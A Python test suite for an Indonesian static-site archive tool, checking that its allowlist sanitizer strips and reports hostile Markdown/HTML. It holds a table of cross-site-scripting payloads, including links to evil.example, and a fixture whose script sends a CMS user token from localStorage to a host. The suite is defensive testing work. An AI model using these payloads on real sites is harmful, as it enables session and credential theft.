"""Content cannot script: the allowlist sanitizer as a table of payloads, and what it drops
reported by `harmoni periksa` and the build (so `--strict` fails), with file and line."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import build_project
from harmoni_arsip import cli
from harmoni_arsip.pages.narrative import markdown_renderer
from harmoni_arsip.pages.sanitize import dropped, sanitize

RENDER = markdown_renderer(
    ["attr_list", "md_in_html", "admonition", "tables", "toc"], {"toc": {"permalink": True}}
)

# (Markdown a narrative may hold, what must not survive in the HTML, words of the report)
PAYLOADS = [
    ("<script>alert(1)</script>", "alert(1)", "elemen `<script>` beserta isinya"),
    ("<img src=x onerror=alert(1)>", "onerror", "atribut `onerror` pada `<img>`"),
    ("[klik](javascript:alert(1))", "javascript:", "tautan `javascript:alert(1)`"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "javascript:", "tautan `JaVaScRiPt:alert(1)`"),
    ('<a href="java&#x09;script:alert(1)">x</a>', "script:", "tautan `java script:alert(1)`"),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', "data:", "tautan `data:"),
    ('<iframe src="https://evil.example/"></iframe>', "<iframe", "elemen `<iframe>`"),
    ('<form action="https://evil.example/"><input name="t"></form>', "<form", "elemen `<form>`"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta", "`<meta>`"),
    ('Paragraf\n{: onclick="alert(1)" }', "onclick", "atribut `onclick` pada `<p>`"),
    ('Paragraf\n{: style="position:fixed;inset:0" }', "position", "atribut `style` pada `<p>`"),
    ('<div style="background:url(//evil.example/)">x</div>', "evil", "atribut `style`"),
    ("<svg onload=alert(1)></svg>", "onload", "elemen `<svg>` beserta isinya"),
    ("<object data=x.swf></object>", "<object", "elemen `<object>`"),
    ("<style>body{display:none}</style>", "display", "elemen `<style>`"),
    ('<base href="https://evil.example/">', "<base", "elemen `<base>`"),
    ("![luar](https://evil.example/piksel.png)", "evil.example", "gambar dari luar situs"),
    ('<p id="__config">x</p>', "__config", "id `__config`"),
    ('<a href="/" data-salin="x">x</a>', "data-salin", "atribut `data-salin`"),
]
PAYLOAD_IDS = [f"{number:02d}-{payload[1]}" for number, payload in enumerate(PAYLOADS)]

# Markdown the staff guides document, and what of it must stay
KEPT = [
    ("## Hasil kegiatan", "<h2"),
    ("*miring* dan **tebal**", "<strong>tebal</strong>"),
    ("- satu\n- dua", "<li>dua</li>"),
    ("1. satu\n2. dua", "<ol>"),
    ("[Situs desa](https://desa.contoh.go.id/)", 'href="https://desa.contoh.go.id/"'),
    ("[surel](mailto:a@contoh.go.id)", 'href="mailto:a@contoh.go.id"'),
    ("[halaman lain](../2024-001/)", 'href="../2024-001/"'),
    ("| a | b |\n|:-:|--:|\n| 1 | 2 |", 'style="text-align:center"'),
    ("![Peserta](foto-01.jpg){ width=320 loading=lazy }", 'src="foto-01.jpg"'),
    ('!!! note "Catatan"\n    Isi catatan.', 'class="admonition note"'),
    ("> kutipan", "<blockquote>"),
]


@pytest.mark.parametrize(("markdown", "gone", "report"), PAYLOADS, ids=PAYLOAD_IDS)
def test_each_payload_is_dropped_and_named(markdown, gone, report):
    html = RENDER(markdown)
    clean = sanitize(html)
    assert gone.lower() not in clean.lower()
    assert all(tag not in clean for tag in ("<script", "<iframe", "<form", "<meta", "<svg"))
    found = [item.what for item in dropped(html)]
    assert any(report in what for what in found), found
    assert dropped(clean) == []  # nothing left to drop: the reader and nh3 agree


@pytest.mark.parametrize(("markdown", "kept"), KEPT)
def test_what_the_guides_document_stays(markdown, kept):
    html = RENDER(markdown)
    assert kept in sanitize(html)
    assert dropped(html) == []


def test_the_archive_markers_of_hand_written_pages_stay():
    marker = "<!-- harmoni:kegiatan-terbaru -->"
    html = f"<p>a</p>\n{marker}\n<script>x()</script><!-- lain -->"
    assert sanitize(html, keep=[marker]) == f"<p>a</p>\n{marker}\n"


NARRATIVE = """Pembukaan kegiatan.

<script>fetch('http://127.0.0.1:9/'+localStorage['sveltia-cms.user'])</script>

Paragraf biasa.

<img src=x onerror="alert(1)">

[Tautan](javascript:alert(document.cookie))
"""


def _with_hostile_narrative(project: Path) -> tuple[Path, int]:
    """The demo entry 2024-004 with `NARRATIVE` below its front matter; its file and the line
    of the `<script>`."""
    index = next((project / "kegiatan").rglob("2024-06-25-peluncuran-harmoni/index.md"))
    text = index.read_text("utf-8")
    head, _, _ = text.partition("\n---\n")
    head += "\n---\n"
    index.write_text(head + "\n" + NARRATIVE, "utf-8")
    script_line = (head + "\n" + NARRATIVE).splitlines().index(NARRATIVE.splitlines()[2]) + 1
    return index, script_line


@pytest.mark.expect_warnings("narasi memuat")  # the strict build's, unread
def test_build_publishes_no_script_and_strict_fails_naming_file_and_line(project):
    index, line = _with_hostile_narrative(project)
    source = index.relative_to(project).as_posix()
    result = build_project(project)
    built = result.site / "k" / "2024-004" / "index.html"
    page = built.read_text("utf-8")
    narrative = page.split('<div class="harmoni-narasi">', 1)[1].split("</div>", 1)[0]
    assert "Pembukaan kegiatan." in narrative and "Paragraf biasa." in narrative
    assert "sveltia-cms.user" not in page and "onerror" not in narrative
    assert "javascript:" not in narrative
    assert "fetch(" not in page
    expected = f"{source}, baris {line}: narasi memuat elemen `<script>` beserta isinya"
    assert any(w.startswith(expected) for w in result.warnings), result.warnings
    assert any(f"baris {line + 4}: narasi memuat atribut `onerror`" in w for w in result.warnings)
    assert any(f"baris {line + 6}: narasi memuat tautan" in w for w in result.warnings)
    warm = build_project(project)  # the memo replays the problems: --strict still fails
    assert any(w.startswith(expected) for w in warm.warnings)
    with pytest.raises(Exception, match="strict"):
        build_project(project, strict=True)


def test_periksa_reports_the_same_with_the_line(project, capsys):
    index, line = _with_hostile_narrative(project)
    source = index.relative_to(project).as_posix()
    assert cli.main(["-f", str(project / "mkdocs.yml"), "periksa"]) == 1
    out = capsys.readouterr().out
    assert f"{source}, baris {line}: narasi memuat elemen `<script>` beserta isinya" in out
    assert "Hapus bagian itu" in out


def test_a_hand_written_page_is_sanitized_and_reported(project, capsys):
    page = project / "docs" / "tentang.md"
    clean = page.read_text("utf-8")
    page.write_text(clean + '\n<iframe src="https://evil.example/"></iframe>\n', "utf-8")
    line = page.read_text("utf-8").count("\n")
    reported = f"docs/tentang.md, baris {line}: halaman ini memuat elemen"
    for _ in range(2):  # planned, then from the memo
        result = build_project(project)
        assert "<iframe" not in (result.site / "tentang" / "index.html").read_text("utf-8")
        assert [w for w in result.warnings if w.startswith(reported)], result.warnings
    assert cli.main(["-f", str(project / "mkdocs.yml"), "periksa"]) == 1
    assert "docs/tentang.md, baris" in capsys.readouterr().out

    page.write_text(clean, "utf-8")  # fixed: the next build plans again and is quiet
    assert build_project(project).warnings == []


def test_the_demo_loses_nothing(demo_site):
    assert not [w for w in demo_site.warnings if "tidak diterbitkan" in w]
